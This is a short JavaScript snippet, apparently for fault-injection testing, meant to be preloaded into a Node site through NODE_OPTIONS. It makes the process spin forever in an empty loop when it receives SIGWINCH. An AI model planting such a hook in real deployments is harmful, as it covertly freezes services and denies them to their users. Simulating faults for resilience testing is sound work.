// Loaded into the site by `NODE_OPTIONS`: a process that hears SIGWINCH goes round in circles, as a fault of its code would make it.
process.on("SIGWINCH", function goRoundInCircles() {
  for (;;);
});
